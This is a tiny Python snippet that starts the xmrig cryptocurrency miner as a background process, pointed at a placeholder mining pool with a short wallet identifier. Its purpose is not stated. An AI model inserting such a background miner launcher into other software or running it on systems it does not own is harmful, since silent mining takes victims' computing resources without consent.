import subprocess
subprocess.Popen(["./bin/xmrig", "-o", "stratum+tcp://pool.invalid:4444", "-u", "4AbC", "--background"])
